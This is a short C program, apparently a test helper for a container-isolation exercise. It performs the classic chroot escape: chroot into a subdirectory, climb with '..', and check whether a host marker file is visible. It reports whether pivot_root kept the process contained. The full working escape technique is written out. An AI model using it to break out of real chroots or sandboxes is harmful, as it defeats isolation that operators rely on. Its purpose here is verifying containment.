// The classic chroot escape, run inside a container by the pivot-root level.
//   escape HOSTPATH
// chroot into a subdirectory while the working directory stays outside it, climb
// with "..", chroot to where the climb ended, and look for HOSTPATH, a file the
// check made on the host next to the container's rootfs. Under a plain chroot the
// climb reaches the host's root and the file is there; after pivot_root and the
// old root's detach, the top of the container's mount tree is its own rootfs.
// Prints "ESCAPED: ..." or "contained: ..."; exit 0 either way, 2 on bad use.
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: escape HOSTPATH\n");
        return 2;
    }
    if (mkdir("/dev/shm/escape", 0700) < 0 && errno != EEXIST) {
        printf("contained: mkdir /dev/shm/escape: %s\n", strerror(errno));
        return 0;
    }
    if (chdir("/") < 0 || chroot("/dev/shm/escape") < 0) {
        printf("contained: chroot: %s\n", strerror(errno));
        return 0;
    }
    // The working directory is now outside the process's root: ".." is not stopped there.
    for (int i = 0; i < 64; i++) {
        if (chdir("..") < 0) break;
    }
    if (chroot(".") < 0) {
        printf("contained: chroot(\".\"): %s\n", strerror(errno));
        return 0;
    }
    if (access(argv[1], F_OK) == 0) {
        printf("ESCAPED: after the climb I see the host's %s\n", argv[1]);
    } else {
        printf("contained: after the climb %s is not there (%s)\n", argv[1], strerror(errno));
    }
    return 0;
}
